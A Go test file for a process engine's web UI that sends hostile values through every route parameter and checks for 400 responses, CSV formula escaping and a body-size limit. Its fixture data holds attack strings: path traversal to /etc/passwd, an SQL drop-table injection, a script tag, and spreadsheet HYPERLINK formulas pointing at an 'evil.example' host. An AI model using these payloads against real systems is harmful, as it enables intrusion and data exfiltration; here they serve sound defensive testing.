package web_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"fmt"
	"github.com/cockpit-engine/cockpit/internal/engine"
	"github.com/cockpit-engine/cockpit/internal/engine/store"
	"github.com/cockpit-engine/cockpit/internal/engine/store/pgtest"
	"github.com/cockpit-engine/cockpit/internal/engine/store/postgres"
	"github.com/cockpit-engine/cockpit/internal/engine/store/sqlite"
	"io"
	"mime/multipart"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/cockpit-engine/cockpit/internal/web"
)

// byteClass are hostile values no parameter accepts: each must be a 400 that names the
// parameter, before any handler or store sees it.
var byteClass = map[string]string{
	"nul":          "a\x00b",
	"invalid utf8": "\xff\xfe\xfd",
	"control":      "a\x01b",
	"100 KB":       strings.Repeat("x", 100<<10),
}

// meaningClass are values of the right bytes but the wrong meaning (malformed cursors,
// negative and huge numbers, odd paths): each must be answered without a 5xx (but a 503
// from a part this UI runs without), as a 400 or 404 where the route checks the value.
var meaningClass = []string{
	"", "-1", "0", "99999999999999999999999", "1e309", "NaN", "../../etc/passwd", "%zz", "!!!", "'; drop table instances; --",
	base64.RawURLEncoding.EncodeToString([]byte("x:y")),
	base64.RawURLEncoding.EncodeToString([]byte("1:a\x00b")),
	base64.RawURLEncoding.EncodeToString([]byte("-9223372036854775808:a")),
	base64.RawURLEncoding.EncodeToString([]byte("9223372036854775807:\xff")),
	"=HYPERLINK(\"http://evil\")", "<script>alert(1)</script>", "2026-13-45T99:99", "true,false",
}

// queryParams are every query and form parameter a route of the UI reads.
var queryParams = []string{"state", "service", "process", "version", "businessKey", "var", "value", "from", "to", "hasIncident",
	"waitingAt", "stalled", "after", "limit", "q", "topic", "name", "correlationKey", "completed", "assignee", "range",
	"compare", "step", "heat", "v", "back", "definitionKey", "elementId", "type", "messageContains", "all", "retries",
	"reason", "confirm", "element", "op", "threshold", "variables", "instance", "target", "map", "id", "add", "vars", "source", "check"}

// knownRoutes are the UI's routes with a value for each path parameter that names
// something of the fixture (so the handler runs past its lookup).
func (f *fixture) knownRoutes(t *testing.T) map[string]map[string]string {
	incs, err := f.e.ListIncidents(context.Background(), store.IncidentFilter{InstanceID: f.failed.ID})
	if err != nil || len(incs) == 0 {
		t.Fatalf("incident of the failed instance: %v", err)
	}
	return map[string]map[string]string{
		"/processes/:key": {"key": "pay"}, "/instances/:id": {"id": f.failed.ID}, "/incidents/:id": {"id": incs[0].ID},
		"/tasks/:id": {"id": "none"}, "/operations/:id": {"id": "none"}, "/static/*": {"*": "app.js"},
	}
}

// TestHostileParams hits every route of the UI with hostile values in each path, query
// and form parameter: bytes no parameter accepts are a 400 naming it; values of the wrong
// meaning never a 500. The UI runs without the command service (actions answer 503
// after their parameters are checked): the edge is what is tested here, and the command
// service checks its own input.
func TestHostileParams(t *testing.T) {
	t.Parallel()
	for _, st := range testStores() {
		t.Run(st.name, func(t *testing.T) {
			t.Parallel()
			testHostileParams(t, newFixtureOn(t, st.open))
		})
	}
}

func testHostileParams(t *testing.T, a *fixture) {
	known := a.knownRoutes(t)
	routes := web.Routes()
	if len(routes) < 30 {
		t.Fatalf("only %d routes: %v", len(routes), routes)
	}
	send := func(method, path string, query, form url.Values) *page {
		u := a.srv.URL + path
		if len(query) > 0 {
			u += "?" + query.Encode()
		}
		var body string
		if form != nil {
			body = form.Encode()
		}
		req, err := http.NewRequest(method, u, strings.NewReader(body))
		if err != nil {
			t.Fatalf("%s %s: %v", method, u, err)
		}
		if method == http.MethodPost {
			req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			req.Header.Set("Sec-Fetch-Site", "same-origin")
		}
		return a.do(req)
	}
	// fill builds a route's path with value in parameter param (the known value, or a
	// plain one, in the others).
	fill := func(route, param, value string) string {
		var b strings.Builder
		for i, seg := range strings.Split(strings.TrimPrefix(route, "/"), "/") {
			if i > 0 || route != "" {
				b.WriteString("/")
			}
			name, isParam := strings.CutPrefix(seg, ":")
			if seg == "*" {
				name, isParam = "*", true
			}
			if !isParam {
				b.WriteString(seg)
				continue
			}
			v := known[route][name]
			if v == "" {
				v = "unknown"
			}
			if name == param {
				v = value
			}
			b.WriteString(url.PathEscape(v))
		}
		return b.String()
	}
	short := func(s string) string {
		if len(s) > 40 {
			s = s[:40] + "…"
		}
		return strings.ToValidUTF8(s, "?")
	}
	wantBad := func(t *testing.T, what, param string, p *page) {
		t.Helper()
		if p.status != http.StatusBadRequest || (!strings.HasPrefix(what, "HEAD ") && !strings.Contains(p.body, param)) { // HEAD: no body
			t.Errorf("%s: %d, want 400 naming %s\n%.300s", what, p.status, param, mainText(p))
		}
	}
	wantNo5xx := func(t *testing.T, what string, p *page) {
		t.Helper()
		if p.status >= 500 && p.status != http.StatusServiceUnavailable {
			t.Errorf("%s: %d\n%.300s", what, p.status, mainText(p))
		}
	}
	for _, route := range routes {
		method, path, _ := strings.Cut(route, " ")
		t.Run(route, func(t *testing.T) {
			var params []string
			for _, seg := range strings.Split(path, "/") {
				if name, ok := strings.CutPrefix(seg, ":"); ok {
					params = append(params, name)
				} else if seg == "*" {
					params = append(params, "*")
				}
			}
			for class, v := range byteClass {
				for _, p := range params {
					what := fmt.Sprintf("%s %s with %s in path parameter %s", method, path, class, p)
					wantBad(t, what, p, send(method, fill(path, p, v), nil, nil))
				}
				for _, q := range queryParams {
					what := fmt.Sprintf("%s %s with %s in query parameter %s", method, path, class, q)
					wantBad(t, what, q, send(method, fill(path, "", ""), url.Values{q: {v}}, nil))
					if method == http.MethodPost && path != "/deploy" && utf8.RuneCountInString(v) < 1000 {
						what := fmt.Sprintf("%s %s with %s in form field %s", method, path, class, q)
						wantBad(t, what, q, send(method, fill(path, "", ""), nil, url.Values{q: {v}}))
					}
				}
			}
			for _, v := range meaningClass {
				for _, p := range params {
					what := fmt.Sprintf("%s %s with %q in path parameter %s", method, path, short(v), p)
					wantNo5xx(t, what, send(method, fill(path, p, v), nil, nil))
				}
				for _, q := range queryParams {
					what := fmt.Sprintf("%s %s with %q in query parameter %s", method, path, short(v), q)
					wantNo5xx(t, what, send(method, fill(path, "", ""), url.Values{q: {v}}, nil))
					if method == http.MethodPost {
						what := fmt.Sprintf("%s %s with %q in form field %s", method, path, short(v), q)
						wantNo5xx(t, what, send(method, fill(path, "", ""), nil, url.Values{q: {v}}))
					}
				}
			}
		})
	}
	// A malformed query string is a 400 too, and so are values a page checks itself.
	wantBad(t, "malformed escape", "query string", send(http.MethodGet, "/instances?state=%zz", nil, nil))
	for param, values := range map[string][]string{
		"after": {"!!!", base64.RawURLEncoding.EncodeToString([]byte("x:y")), base64.RawURLEncoding.EncodeToString([]byte("1:a\x00b")),
			base64.RawURLEncoding.EncodeToString([]byte("-9223372036854775808:a"))},
		"limit":   {"-1", "0", "201", "99999999999999999999", "x"},
		"version": {"-1", "0", "x"},
		"from":    {"yesterday"},
		"value":   {`"\u0000"`, `{"a":["x\u0000"]}`},
	} {
		for _, v := range values {
			q := url.Values{param: {v}, "process": {"pay"}, "var": {"n"}}
			wantBad(t, fmt.Sprintf("/instances with %s=%q", param, v), param, send(http.MethodGet, "/instances", q, nil))
		}
	}
}

// TestInstancesCSVFormulas: a business key a spreadsheet would run as a formula is
// written as text in the export (CSV injection); a plain key and the numbers are not.
func TestInstancesCSVFormulas(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	const formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	for _, bk := range []string{formula, "@SUM(1)", "-2+3", "\t=1"} {
		if _, err := f.e.StartInstance(context.Background(), "pay", engine.StartOptions{BusinessKey: bk, Variables: map[string]any{"fail": true}}); err != nil {
			t.Fatal(err)
		}
	}
	resp, body := fetch(t, f.srv.URL+"/instances.csv")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("instances.csv: %d", resp.StatusCode)
	}
	keys := map[string]bool{}
	for _, row := range readCSV(t, body)[1:] {
		keys[row[3]] = true
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				if _, err := strconv.ParseFloat(cell, 64); err != nil {
					t.Errorf("column %d: %q would run as a formula", i, cell)
				}
			}
		}
	}
	for _, want := range []string{"'" + formula, "'@SUM(1)", "'-2+3", "'\t=1", "B-1"} {
		if !keys[want] {
			t.Errorf("no business key %q in %v", want, keys)
		}
	}
}

// TestBodyLimit: a form of any route but deploy, urlencoded or multipart, over
// MaxBodyBytes is a 413 that names the limit; nothing runs.
func TestBodyLimit(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	big := strings.Repeat("x", web.MaxBodyBytes+1)
	urlencoded := func(path string) *http.Request {
		req, _ := http.NewRequest(http.MethodPost, f.srv.URL+path, strings.NewReader(url.Values{"reason": {big}}.Encode()))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		return req
	}
	multi := func(path string) *http.Request {
		var b bytes.Buffer
		w := multipart.NewWriter(&b)
		fw, _ := w.CreateFormFile("file", "big.txt")
		_, _ = fw.Write([]byte(big))
		_ = w.Close()
		req, _ := http.NewRequest(http.MethodPost, f.srv.URL+path, &b)
		req.Header.Set("Content-Type", w.FormDataContentType())
		return req
	}
	chunked := func(path string) *http.Request {
		req := urlencoded(path)
		req.ContentLength = -1 // no length: the limit holds while reading
		req.Body = io.NopCloser(strings.NewReader(url.Values{"reason": {big}}.Encode()))
		return req
	}
	for _, path := range []string{"/instances/" + f.ok[0].ID + "/cancel", "/instances/" + f.ok[0].ID + "/variables",
		"/messages/correlate", "/tasks/none/complete", "/incidents/retry-bulk"} {
		for name, mk := range map[string]func(string) *http.Request{"urlencoded": urlencoded, "multipart": multi, "chunked": chunked} {
			req := mk(path)
			req.Header.Set("Sec-Fetch-Site", "same-origin")
			p := f.do(req)
			if p.status != http.StatusRequestEntityTooLarge || !strings.Contains(p.body, "MaxBodyBytes") {
				t.Errorf("%s %s: %d, want 413 naming MaxBodyBytes\n%.300s", name, path, p.status, mainText(p))
			}
		}
	}
	if d, err := f.e.GetInstance(context.Background(), f.ok[0].ID); err != nil || d.Instance.State != store.InstanceActive {
		t.Errorf("instance after refused posts: %v %+v", err, d)
	}
}

// testStore opens a store for a test.
type testStore struct {
	name string
	open func(t *testing.T) store.Store
}

// testStores are SQLite, and PostgreSQL when COCKPIT_TEST_DATABASE_URL is set (a schema
// per test, dropped at its end).
func testStores() []testStore {
	kinds := []testStore{{"sqlite", func(t *testing.T) store.Store {
		st, err := sqlite.Open(context.Background(), sqlite.Options{Path: filepath.Join(t.TempDir(), "cockpit.db")})
		if err != nil {
			t.Fatalf("open store: %v", err)
		}
		return st
	}}}
	if dbURL := os.Getenv("COCKPIT_TEST_DATABASE_URL"); dbURL != "" {
		kinds = append(kinds, testStore{"postgres", func(t *testing.T) store.Store {
			st := pgtest.Open(t, postgres.Options{URL: dbURL})
			return st
		}})
	}
	return kinds
}
